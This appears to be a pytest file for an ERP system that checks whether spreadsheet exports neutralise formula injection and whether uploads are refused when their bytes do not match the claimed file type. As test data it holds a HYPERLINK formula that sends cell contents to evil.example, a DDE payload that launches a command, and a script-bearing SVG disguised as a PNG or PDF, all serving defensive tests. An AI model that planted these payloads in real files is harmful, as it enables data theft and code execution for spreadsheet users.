"""Exports neutralise formulas; uploads are judged by their bytes, not their name (issue 18.4)."""
import io

import pytest
from openpyxl import load_workbook

from erp_core.exports import neutral, to_csv, to_xlsx
from erp_core.validation import content_matches, sniff

HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "＝1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_cells_are_neutralised_in_csv_and_xlsx(text):
    assert neutral(text).startswith("'")
    csv_text = to_csv(["名称"], [[text]]).decode("utf-8-sig")
    assert f"'{text}" in csv_text or f"\"'{text}" in csv_text.replace('""', '"')
    ws = load_workbook(io.BytesIO(to_xlsx([text], [[text]]))).active
    assert ws.cell(1, 1).value == "'" + text and ws.cell(2, 1).value == "'" + text
    assert ws.cell(2, 1).data_type == "s"


def test_numbers_and_plain_text_are_left_alone():
    from decimal import Decimal
    ws = load_workbook(io.BytesIO(to_xlsx(["a", "b"], [[Decimal("-5.00"), "轮椅"]]))).active
    assert ws.cell(2, 1).value == -5 and ws.cell(2, 2).value == "轮椅"


def test_export_endpoint_neutralises(client, login_as, session):
    from decimal import Decimal
    from tests.sample_module.models import SampleRequest
    session.add(SampleRequest(title="=HYPERLINK(\"http://x\")", amount=Decimal("1")))
    session.commit()
    login_as("Admin")
    body = client.get("/api/v1/sample_request/export/?format=csv").data.decode("utf-8-sig")
    assert "'=HYPERLINK" in body


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


def test_sniffing():
    assert sniff(PNG) == "image/png" and sniff(b"\xff\xd8\xff\xe0xx") == "image/jpeg" and sniff(SVG) is None
    assert content_matches(b"%PDF-1.7 ...", "application/pdf") and not content_matches(SVG, "application/pdf")
    assert content_matches(b"PK\x03\x04...", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")


def test_svg_logo_named_png_is_refused(client, login_as, session):
    from erp_core.models import Settings
    login_as("Admin")
    resp = client.post("/settings/", data={"hospital_name": "医院", "logo": (io.BytesIO(SVG), "logo.png", "image/png")},
                       content_type="multipart/form-data")
    assert resp.status_code == 422
    assert session.get(Settings, 1) is None or session.get(Settings, 1).logo is None
    resp = client.post("/settings/", data={"hospital_name": "医院", "logo": (io.BytesIO(PNG), "logo.png", "image/png")},
                       content_type="multipart/form-data")
    assert resp.status_code == 302
    session.expire_all()
    assert session.get(Settings, 1).logo_mimetype == "image/png"


def test_attachment_claiming_pdf_with_other_content_is_refused(client, api_token, session):
    from decimal import Decimal
    from tests.sample_module.models import SampleRequest
    req = SampleRequest(title="t", amount=Decimal("1"))
    session.add(req)
    session.commit()
    h = api_token("Admin")
    url = f"/api/v1/sample_request/{req.id}/attachments"
    bad = client.post(url, headers=h, data={"file": (io.BytesIO(SVG), "scan.pdf", "application/pdf")})
    assert bad.status_code == 422
    good = client.post(url, headers=h, data={"file": (io.BytesIO(b"%PDF-1.4 x"), "scan.pdf", "application/pdf")})
    assert good.status_code == 201
